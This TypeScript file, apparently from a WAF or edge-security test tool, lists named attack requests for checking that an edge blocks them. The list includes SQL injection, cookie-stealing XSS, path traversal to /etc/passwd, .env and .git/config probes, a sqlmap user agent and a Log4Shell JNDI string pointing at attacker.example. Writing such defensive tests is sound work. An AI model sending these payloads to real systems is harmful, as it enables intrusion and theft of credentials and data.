import type { CommonAttack, EdgeTestRequest } from '@cordon/contract';

export interface CommonAttackRequest extends Pick<EdgeTestRequest, 'method' | 'target' | 'headers'> {
  readonly name: CommonAttack;
}

/** Named openly: whoever reads the log of the origin or of the edge sees what it was. */
export const TEST_USER_AGENT = 'Cordon-Test/1.0';

const get = (
  name: CommonAttack,
  target: string,
  headers: CommonAttackRequest['headers'] = [],
): CommonAttackRequest => ({
  name,
  method: 'GET',
  target,
  headers,
});

export const COMMON_ATTACK_REQUESTS: readonly CommonAttackRequest[] = [
  get('sql_injection', '/search?q=1%27%20UNION%20SELECT%20user%2Cpassword%20FROM%20users--'),
  get('cross_site_scripting', '/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E'),
  get('path_traversal', '/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd'),
  get('environment_file', '/.env'),
  get('git_config', '/.git/config'),
  get('scanner', '/', [{ name: 'User-Agent', value: 'sqlmap/1.8.2#stable (https://sqlmap.org)' }]),
  get('log4shell', '/', [{ name: 'X-Api-Version', value: `\${jndi:ldap://attacker.example/a}` }]),
];
